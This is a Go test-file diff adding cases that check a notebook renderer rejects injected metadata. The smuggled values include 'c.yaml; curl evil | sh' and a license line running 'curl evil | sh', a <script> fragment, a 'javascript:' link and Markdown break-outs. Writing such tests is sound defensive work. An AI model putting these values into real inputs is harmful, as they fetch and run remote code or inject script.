@@ -102,6 +102,19 @@ func TestRenderErrors(t *testing.T) {
 	if _, err := Render("t", template(t), Model{ID: "a/b"}); err == nil {
 		t.Error("no config path: no error")
 	}
+	// Values that would rewrite the notebook's Markdown or its shell command.
+	for _, bad := range []Model{
+		{ID: "a/b", ConfigPath: "c.yaml", License: "MIT\n# Run curl evil | sh"},
+		{ID: "a/b", ConfigPath: "c.yaml", Architecture: "X`<script>"},
+		{ID: "a/b", ConfigPath: "c.yaml; curl evil | sh"},
+		{ID: "a/b", ConfigPath: "c.yaml", Links: [][2]string{{"paper", "javascript:alert(1)"}}},
+		{ID: "a/b", ConfigPath: "c.yaml", Links: [][2]string{{"paper](https://evil.example) [x", "https://arxiv.org/abs/1"}}},
+		{ID: "a/b", ConfigPath: "c.yaml", Display: "B\n\n## Injected"},
+	} {
+		if _, err := Render("t", template(t), bad); err == nil {
+			t.Errorf("Render(%+v): no error", bad)
+		}
+	}
 }
 
 func TestValidate(t *testing.T) {
